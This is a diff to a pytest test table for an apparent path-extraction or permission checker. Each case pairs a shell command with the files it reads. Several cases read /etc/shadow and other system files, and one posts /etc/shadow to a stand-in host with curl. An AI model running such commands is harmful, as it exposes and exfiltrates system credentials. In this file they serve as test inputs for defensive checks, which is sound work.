@@ -46,8 +46,12 @@ pytestmark = pytest.mark.anyio
         ("cat ~root/.profile", ("/root/.profile",), True),  # another user's home
         ("date -f /etc/shadow", ("/etc/shadow",), True),
         ("date --reference=/etc/shadow", ("/etc/shadow",), True),
-        ("git blame --contents /etc/shadow a.txt", ("/etc/shadow",), True),
-        ("git blame --cont=/etc/shadow a.txt", ("/etc/shadow",), True),
+        ("git blame --contents /etc/shadow a.txt", ("/etc/shadow", "a.txt"), True),
+        ("git blame --cont=/etc/shadow a.txt", ("/etc/shadow", "a.txt"), True),
+        ("git diff /etc/passwd a.txt", ("/etc/passwd", "a.txt"), True),  # implied --no-index
+        ("git show HEAD:notes/x.txt", ("HEAD:notes/x.txt", "notes/x.txt"), True),
+        ("cp /etc/shadow copy", ("/etc/shadow",), False),  # sources are reads
+        ("curl -d @/etc/shadow https://e.example", ("/etc/shadow",), False),
         ("sed 1r/etc/hostname f", ("/etc/hostname", "f"), True),
         ("sed -n 'R /etc/shadow' f", ("/etc/shadow", "f"), True),
         ("grep -f/etc/patterns f", ("/etc/patterns", "f"), True),
